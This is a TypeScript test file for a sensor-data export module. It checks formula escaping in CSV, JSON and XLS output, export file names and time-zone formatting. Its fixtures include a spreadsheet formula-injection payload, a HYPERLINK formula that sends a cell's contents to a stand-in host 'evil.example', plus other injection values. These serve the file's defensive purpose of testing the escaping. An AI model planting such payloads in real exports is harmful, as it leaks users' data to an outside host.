import * as XLSX from '@e965/xlsx';
import { describe, expect, it } from 'vitest';
import { sheetJsXlsWriter } from '../../src/adapters/xls';
import { escapeFormula, toCsv, toJson, zonedIso } from '../../src/domain/export/cells';
import { roundedReading } from '@argentum/contracts';
import { dayLabel, exportFileName } from '../../src/domain/export/export';

const header = ['time', 'devID', 'device', 'Temperature (temp)'];
const hyperlink = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
const rows = [
  ['2026-11-22T10:00:00.000Z', 'AA:01', 'IEQOffice', 22.5],
  ['2026-11-22T10:01:00.000Z', 'AA:01', hyperlink, -3.25],
  ['2026-11-22T10:02:00.000Z', '+1+2', '@SUM(A1)', null],
  ['2026-11-22T10:03:00.000Z', '-2+3', 'tab\tinside, "quoted"\r\nline', 0],
];

/** A minimal RFC 4180 reader: enough to read back what toCsv writes. */
function parseCsv(text: string): string[][] {
  const out: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(field);
      out.push(row);
      row = [];
      field = '';
      i++;
    } else field += c;
  }
  return out;
}

describe('export cells', () => {
  it('escapes every text a spreadsheet would run as a formula, and nothing else', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r'])
      expect(escapeFormula(`${start}1`)).toBe(`'${start}1`);
    expect(escapeFormula('IEQOffice')).toBe('IEQOffice');
    expect(escapeFormula('a=b')).toBe('a=b');
  });

  it('writes CSV that parses back with formulas as text and numbers as numbers', () => {
    const csv = toCsv(header, rows);
    expect(csv.startsWith('\uFEFF')).toBe(true);
    const parsed = parseCsv(csv.slice(1));
    expect(parsed[0]).toEqual(header);
    expect(parsed[2]).toEqual(['2026-11-22T10:01:00.000Z', 'AA:01', `'${hyperlink}`, '-3.25']);
    expect(parsed[3]).toEqual(['2026-11-22T10:02:00.000Z', "'+1+2", "'@SUM(A1)", '']);
    expect(parsed[4]).toEqual(['2026-11-22T10:03:00.000Z', "'-2+3", 'tab\tinside, "quoted"\r\nline', '0']);
    expect(parsed).toHaveLength(5);
  });

  it('writes JSON that parses back to one object per row', () => {
    const parsed = JSON.parse(toJson(header, rows)) as Record<string, unknown>[];
    expect(parsed).toHaveLength(4);
    expect(parsed[1]).toEqual({
      time: '2026-11-22T10:01:00.000Z',
      devID: 'AA:01',
      device: `'${hyperlink}`,
      'Temperature (temp)': -3.25,
    });
    expect(parsed[2]?.['Temperature (temp)']).toBeNull();
  });

  it('writes a true BIFF8 workbook (not an HTML table) whose formula-like cells stay text', async () => {
    const bytes = await sheetJsXlsWriter.write([{ name: 'Data', header, rows }]);
    // The OLE2 compound-file signature: Excel opens it as .xls without a format warning.
    expect([...bytes.slice(0, 8)]).toEqual([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]);
    const book = XLSX.read(bytes, { type: 'array' });
    expect(book.SheetNames).toEqual(['Data']);
    const sheet = book.Sheets.Data;
    if (!sheet) throw new Error('no Data sheet');
    const cell = sheet.C3 as XLSX.CellObject;
    expect(cell.t).toBe('s');
    expect(cell.v).toBe(`'${hyperlink}`);
    expect(cell.f).toBeUndefined();
    expect(
      Object.values(sheet).some(
        (c: { f?: unknown }) => typeof c === 'object' && c !== null && 'f' in c && c.f !== undefined,
      ),
    ).toBe(false);
    expect(sheet.D3).toMatchObject({ t: 'n', v: -3.25 });
    const back = XLSX.utils.sheet_to_json<unknown[]>(sheet, { header: 1, raw: true, defval: null });
    expect(back[0]).toEqual(header);
    expect(back[3]).toEqual(['2026-11-22T10:02:00.000Z', "'+1+2", "'@SUM(A1)", null]);
  });

  it('names files with the date range in the user’s time zone', () => {
    const from = Date.UTC(2026, 10, 1, 23, 30);
    const to = Date.UTC(2026, 10, 22, 10);
    expect(dayLabel(from, 'UTC')).toBe('01-11-2026');
    expect(dayLabel(from, 'Europe/Berlin')).toBe('02-11-2026');
    expect(exportFileName('IEQ Office', 'raw', from, to, 'UTC', 'xls')).toBe(
      'IEQ_Office_RawData_01-11-2026_to_22-11-2026.xls',
    );
  });

  it("writes a moment in the user's zone with its offset, summer and winter, and readings as the screens show them", () => {
    const winter = Date.UTC(2026, 0, 15, 12, 0, 0);
    const summer = Date.UTC(2026, 6, 15, 12, 0, 0);
    expect(zonedIso({ time: winter, timeZone: 'Europe/Berlin' })).toBe('2026-01-15T13:00:00+01:00');
    expect(zonedIso({ time: summer, timeZone: 'Europe/Berlin' })).toBe('2026-07-15T14:00:00+02:00');
    expect(zonedIso({ time: winter, timeZone: 'America/Toronto' })).toBe('2026-01-15T07:00:00-05:00');
    expect(zonedIso({ time: winter, timeZone: 'UTC' })).toBe('2026-01-15T12:00:00+00:00');
    expect(roundedReading('pressure', 101_325)).toBe(101.3);
    expect(roundedReading('temp', 22.46)).toBe(22.5);
    expect(roundedReading('voc', 0.456)).toBe(0.46);
  });
});
